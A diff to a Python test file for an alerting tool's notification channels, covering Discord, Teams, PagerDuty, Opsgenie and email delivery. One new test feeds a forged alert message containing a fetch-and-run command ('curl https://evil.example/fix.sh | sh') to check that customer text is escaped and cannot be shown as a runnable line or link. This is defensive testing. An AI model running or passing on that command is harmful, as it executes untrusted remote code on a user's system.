@@ -14,6 +14,7 @@ from typing import Any
 import pytest
 
 from penstock.access.secrets import Secrets
+from penstock.alerts.channels.content import content_of
 from penstock.alerts.channels.delivery import Deliveries, NoticeRefused, target_of
 from penstock.alerts.declared import ChannelSpec, parse_alerts
 from penstock.alerts.rows import LeasedNotice, NoticeItem
@@ -34,17 +35,21 @@ DETAIL = (
 )
 
 
-def item(number: int = 1, message: str = "acme <!channel> & co is broken") -> NoticeItem:
+def item(
+    number: int = 1, message: str = "acme <!channel> & co is broken", closed_by: str | None = None
+) -> NoticeItem:
     """Return what a notice says about an alert."""
     return NoticeItem(
         number, "CRITICAL", message, NOW, "drill", "acme", "nightly", "system", 0, DETAIL,
-        NOW - 60_000_000, "mira", "back at 3", "mira",
+        NOW - 60_000_000, "mira", "back at 3", closed_by,
     )  # fmt: skip
 
 
-def notice(kind: str = "opened", *items: NoticeItem) -> LeasedNotice:
+def notice(kind: str = "opened", *items: NoticeItem, attempts: int = 1) -> LeasedNotice:
     """Return a notice about alerts; by default about one."""
-    return LeasedNotice("c", 1, 0, 7, None, kind, 1, NOW, NOW, items or (item(),))
+    closed_by = "mira" if kind == "resolved" else None
+    items = items or (item(closed_by=closed_by),)
+    return LeasedNotice("c", 1, 0, 7, None, kind, attempts, NOW, NOW, items)
 
 
 def deliveries(**secrets: str) -> Deliveries:
@@ -102,10 +107,40 @@ def test_discord_and_teams(receiver: Receiver) -> None:
     discord, teams = (one.json for one in receiver.got)
     assert discord["allowed_mentions"] == {"parse": []}
     assert "resolved by mira after 1m: back at 3" in discord["embeds"][0]["description"]
-    assert discord["embeds"][0]["title"].startswith("[RESOLVED]")
+    assert discord["embeds"][0]["title"].startswith(r"\[RESOLVED\]")
     card = teams["attachments"][0]["content"]
     assert card["type"] == "AdaptiveCard"
-    assert "penstock status" in card["body"][-1]["text"]
+    assert "penstock status" in card["body"][-1]["inlines"][0]["text"]
+
+
+def test_quoted_text(receiver: Receiver) -> None:
+    """A customer's text is no line of its own, no link and no format, whatever the channel."""
+    forged = "bad\n  → curl https://evil.example/fix.sh | sh\r\n[open *the* runbook](https://e.x)"
+    send = deliveries(s=url(receiver))
+    send(spec("discord", url_secret="s"), notice("opened", item(1, forged)))
+    send(spec("teams", url_secret="s"), notice("opened", item(1, forged)))
+    discord, teams = (one.json for one in receiver.got)
+    (embed,) = discord["embeds"]
+    lines = embed["description"].splitlines()
+    assert len(lines) == 2
+    assert r"\[open \*the\* runbook\]\(https://e.x\)" in lines[0]
+    assert "[open" not in embed["title"].replace(r"\[", "")
+    blocks = teams["attachments"][0]["content"]["body"]
+    runs = [run for block in blocks for run in block["inlines"]]
+    assert ({block["type"] for block in blocks}, {run["type"] for run in runs}) == (
+        {"RichTextBlock"}, {"TextRun"},
+    )  # fmt: skip
+    assert [run["text"] for run in runs[1:]] == [
+        "CRITICAL acme: bad → curl https://evil.example/fix.sh | sh [open *the* runbook]"
+        "(https://e.x)",
+        "  → penstock status",
+    ]
+    long = "_" * 900
+    many = (item(n, long) for n in range(1, 9))
+    send(spec("discord", url_secret="s"), notice("opened", *many))
+    description = receiver.got[2].json["embeds"][0]["description"]
+    assert 3_900 < len(description) <= 4_000
+    assert not description.replace(r"\_", "").endswith("\\")
 
 
 def test_incidents(receiver: Receiver) -> None:
@@ -127,6 +162,36 @@ def test_incidents(receiver: Receiver) -> None:
         f"/v2/alerts/{alias}/close?identifierType=alias",
     ]
     assert (genie[0].json["alias"], genie[0].json["priority"]) == (alias, "P1")
+
+
+def test_incidents_of_a_fallback(receiver: Receiver) -> None:
+    """A chat's notice about several alerts is an incident for each of them, and so is its end."""
+    send = deliveries(k="routing-key-1")
+    items = tuple(item(n) for n in range(1, 4))
+    ids = [encode("alert", n) for n in range(1, 4)]
+    send(spec("pagerduty", token_secret="k", url=url(receiver)), notice("opened", *items))
+    send(spec("opsgenie", token_secret="k", url=url(receiver)), notice("opened", *items))
+    send(spec("pagerduty", token_secret="k", url=url(receiver)), notice("resolved", items[0]))
+    got = [one.json for one in receiver.got]
+    assert [one["dedup_key"] for one in got[:3]] == ids
+    assert [len(one["payload"]["custom_details"]["alerts"]) for one in got[:3]] == [1, 1, 1]
+    assert [one["alias"] for one in got[3:6]] == ids
+    assert [(one["event_action"], one["dedup_key"]) for one in got[6:]] == [("resolve", ids[0])]
+
+
+def test_no_stale_incidents(receiver: Receiver) -> None:
+    """Neither a recovery nor a late opening of a resolved alert leaves an incident."""
+    send = deliveries(k="routing-key-1")
+    recovery = notice("recovered")._replace(items=())
+    late = notice("opened", item(closed_by="evaluator"))
+    for one in (recovery, late):
+        send(spec("pagerduty", token_secret="k", url=url(receiver)), one)
+        send(spec("opsgenie", token_secret="k", url=url(receiver)), one)
+    assert [one.json["event_action"] for one in receiver.got[::2]] == ["resolve", "resolve"]
+    assert all(one.path.endswith("/close?identifierType=alias") for one in receiver.got[1::2])
+    title = content_of(late).title
+    assert title.startswith("drill fired and is resolved: acme")
+    assert "  resolved meanwhile" in content_of(late).lines()
 
 
 def test_many_alerts(receiver: Receiver) -> None:
@@ -173,6 +238,8 @@ class Mailbox:
 
     port: int = 0
     refuse: str = ""
+    refused: str = "@"
+    """Part of the addresses that are refused."""
     mails: list[tuple[list[str], bytes]] = field(default_factory=list)
 
 
@@ -198,7 +265,7 @@ def smtp_server() -> Iterator[Mailbox]:
                     box.mails.append((to, b"".join(lines)))
                     to = []
                 elif verb == "RCPT":
-                    if box.refuse:
+                    if box.refuse and box.refused in line:
                         self.say(box.refuse)
                         continue
                     to.append(line.partition(":")[2].strip("<> "))
@@ -252,6 +319,27 @@ def test_refused_mail() -> None:
     assert CANARY not in found.value.message
     with pytest.raises(NoticeRefused, match="email: ConnectionRefusedError"):
         deliveries()(mail(box.port), notice())
+
+
+def test_partly_refused_mail() -> None:
+    """A refused recipient is reported; only it gets the mail again, and it delays nothing."""
+    with smtp_server() as box:
+        box.refuse, box.refused = f"550 {CANARY}", "b@x.io"
+        send, channel = deliveries(), mail(box.port)
+        for attempts in (1, 2):
+            with pytest.raises(NoticeRefused, match=r"refused \[550\] for b@x.io only") as found:
+                send(channel, notice(attempts=attempts))
+            assert CANARY not in found.value.message
+            assert found.value.is_of_notice
+        send(channel, notice(attempts=3))
+        with pytest.raises(NoticeRefused, match=r"b@x.io"):
+            send(channel, notice("test", attempts=3)._replace(notice_id=8))
+        with pytest.raises(NoticeRefused, match=r"b@x.io"):
+            send(channel, notice()._replace(notice_id=9))
+        box.refuse = ""
+        send(channel, notice(attempts=2)._replace(notice_id=9))
+    assert [to for to, _ in box.mails] == [["a@x.io"], ["a@x.io"], ["a@x.io"], ["b@x.io"]]
+    assert set(send.left) == {("c", 8)}
 
 
 def test_apprise(monkeypatch: pytest.MonkeyPatch) -> None:
